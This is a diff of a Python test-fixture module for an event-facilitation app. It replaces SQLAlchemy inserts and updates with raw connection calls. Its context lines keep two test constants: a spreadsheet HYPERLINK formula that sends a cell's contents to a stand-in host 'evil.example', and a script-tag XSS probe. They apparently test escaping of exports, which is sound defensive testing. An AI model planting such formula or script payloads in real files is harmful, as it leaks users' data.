@@ -12,11 +12,9 @@ import uuid
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
-from sqlalchemy import insert, text
 
 from facilitator.core.demo import load_deck_choice, load_plan_choice
 from facilitator.store.db import EventStore
-from facilitator.store.models import ThemeRow
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 SCRIPT = "<script>alert('owned')</script> we said so"
@@ -65,8 +63,8 @@ def rich_event(folder: Path, name: str = "rich.facilitator") -> Path:
         facilitator="Ann O'Neil",
     )
     with store:
-        with store.conn.begin():
-            store.conn.execute(text("UPDATE event_table SET name = 'Garden room' WHERE number = 7"))
+        with store.conn:
+            store.conn.execute("UPDATE event_table SET name = 'Garden room' WHERE number = 7")
         rounds = store.rounds()
         tables = {t.number: t for t in store.tables()}
         start = datetime(2025, 3, 14, 9, 30, tzinfo=UTC)
@@ -154,8 +152,11 @@ def big_event(folder: Path, themes: int, *, tables: int = 100, seed: int = 7) ->
                     "deleted_at": None,
                 }
             )
-        with store.conn.begin():
-            store.conn.execute(insert(ThemeRow.__table__), rows)  # type: ignore[attr-defined]
+        columns = ", ".join(rows[0])
+        marks = ", ".join(f":{c}" for c in rows[0])
+        store.conn.execute("BEGIN")
+        store.conn.executemany(f"INSERT INTO theme ({columns}) VALUES ({marks})", rows)
+        store.conn.execute("COMMIT")
         for n in range(tables):
             store.add_card_pick(rng.choice(keys), table_id=table_ids[n], round_id=rounds[4].id)
     return path
